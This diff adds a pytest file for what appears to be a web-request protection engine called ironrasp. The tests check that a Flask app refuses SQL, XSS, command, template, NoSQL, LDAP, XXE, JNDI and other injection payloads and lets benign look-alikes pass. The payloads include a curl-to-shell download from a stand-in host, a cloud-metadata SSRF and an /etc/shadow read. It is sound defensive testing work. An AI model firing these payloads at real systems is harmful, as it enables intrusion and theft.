@@ -1,0 +1,146 @@
+"""Every attack class through a real Flask app: refused in the query, a JSON body, a cookie and
+a base64-encoded JSON field; benign look-alikes of each class pass in the same places."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from conftest import Client, b64, send
+
+# One ordinary payload per class, as scanners and exploit kits send them.
+ATTACKS = {
+    "sqli": "1' OR '1'='1' --",
+    "xss": "<img src=x onerror=alert(document.domain)>",
+    "path_traversal": "../../../../etc/passwd",
+    "cmdi": "x && curl http://203.0.113.9/s.sh | sh",
+    "ssrf": "http://169.254.169.254/latest/meta-data/iam/",
+    "ssti": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "nosqli": '{"$where": "sleep(5000)"}',
+    "jndi": "${jndi:ldap://203.0.113.9:1389/a}",
+    "xxe": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>',
+    "ldapi": "*)(uid=*))(|(uid=*",
+    "crlf": "en\r\nSet-Cookie: session=attacker",
+    "rfi": "http://203.0.113.9/shell.txt?",
+    "code_injection": "__import__('os').system('id')",
+}
+
+# Where each location's values are reported (the base64 field is a JSON value, decoded).
+KIND = {
+    "query": "qs_values",
+    "json": "json_values",
+    "cookie": "cookies_values",
+    "base64_json": "json_values",
+}
+
+# Text that shares each class's syntax without being an attack.
+BENIGN = {
+    "sqli": ["O'Brien's order", "Please select the size or colour you like"],
+    "xss": [
+        '<p>Hi <em>there</em>, see <a href="https://example.com/">this</a></p>',
+        "a < b and c > d",
+    ],
+    "path_traversal": ["docs/guide-2.pdf", "../README.md is one level up"],
+    "cmdi": ["Tom & Jerry; season 2", "cat toys | dog toys"],
+    "ssrf": ["https://example.com/img/logo.png", "server at 192.0.2.10 port 80"],
+    "ssti": ["Dear {name}, thanks!", "Total: ${total} (incl. 20% VAT)"],
+    "nosqli": ["$5 off your first order", "price: $gt 10"],
+    "jndi": ["costs ${price}", "JNDI lookups are blocked"],
+    "xxe": ["<note><to>Ann</to><body>Hi</body></note>", '<?xml version="1.0"?><a>1</a>'],
+    "ldapi": ["(555) 123-4567", "name=*smith*"],
+    "crlf": ["line one\nline two", "Dear Ann,\r\nthanks for your order."],
+    "rfi": ["https://cdn.example.com/app.js", "see http://example.org/page?id=5"],
+    "code_injection": [
+        "system design (part 2)",
+        "Set $HOME (your home directory) first",
+        "Hello $name ($role)",
+    ],
+}
+
+
+def test_every_class_is_covered():
+    from ironrasp import Engine
+
+    # The classes the engine inspects values for (request-level checks such as floods and
+    # decoys are tested elsewhere).
+    value_classes = {
+        "sqli",
+        "xss",
+        "path_traversal",
+        "cmdi",
+        "ssrf",
+        "ssti",
+        "nosqli",
+        "jndi",
+        "xxe",
+        "ldapi",
+        "crlf",
+        "rfi",
+        "code_injection",
+    }
+    assert set(ATTACKS) == set(BENIGN) == value_classes
+    engine = Engine()
+    for check, payload in ATTACKS.items():
+        assert check in {f["class"] for f in engine.scan_value(payload)}, check
+
+
+@pytest.mark.parametrize("where", list(KIND))
+@pytest.mark.parametrize("check", list(ATTACKS))
+def test_each_class_is_refused_in_each_location(app, check, where):
+    client = Client(app)
+    r = send(client, where, ATTACKS[check])
+    assert r.status_code == 403, (check, where, r.data)
+    ev = [e for e in client.events() if e["type"] == check]
+    assert ev, (check, where, client.events())
+    e = ev[0]
+    assert e["action"] == "block"
+    assert e["client"] == client.ip
+    assert e["location"]["kind"] == KIND[where]
+    if where == "base64_json":
+        assert e["decoders"][0] == "base64", e
+        assert e["location"]["name"] == "$.blob"
+
+
+@pytest.mark.parametrize("check", list(BENIGN))
+def test_benign_look_alikes_of_each_class_pass_everywhere(app, check):
+    for text in BENIGN[check]:
+        for where in KIND:
+            client = Client(app)
+            r = send(client, where, text)
+            assert r.status_code == 200, (check, where, text, client.events())
+            if where == "query":
+                assert r.get_json()["q"] == [text]
+    assert Client(app).events() == []
+
+
+@pytest.mark.parametrize(
+    "send_it,kind",
+    [
+        (lambda c: c.get("/search?user=admin&password[$ne]=x"), "qs_names"),
+        (
+            lambda c: c.post("/submit", json={"user": "admin", "password": {"$ne": None}}),
+            "json_keys",
+        ),
+        (lambda c: c.post("/submit", json={"user": {"$regex": "^adm"}}), "json_keys"),
+        (
+            lambda c: c.post("/submit", json={"blob": b64(json.dumps({"user": {"$gt": ""}}))}),
+            "json_values",
+        ),
+    ],
+    ids=["query_bracket_name", "json_ne_key", "json_regex_key", "base64_json_gt_key"],
+)
+def test_nosql_operators_as_names_and_keys_are_refused(app, send_it, kind):
+    client = Client(app)
+    assert send_it(client).status_code == 403
+    ev = [e for e in client.events() if e["type"] == "nosqli"]
+    assert ev and ev[0]["location"]["kind"] == kind, client.events()
+
+
+def test_ordinary_dollar_keys_and_values_pass(app):
+    client = Client(app)
+    body = {"price": "$5", "note": "$ne is not a word", "currency": {"symbol": "$"}}
+    r = client.post("/submit", json=body)
+    assert r.status_code == 200
+    assert r.get_json()["json"] == body
+    assert client.events() == []
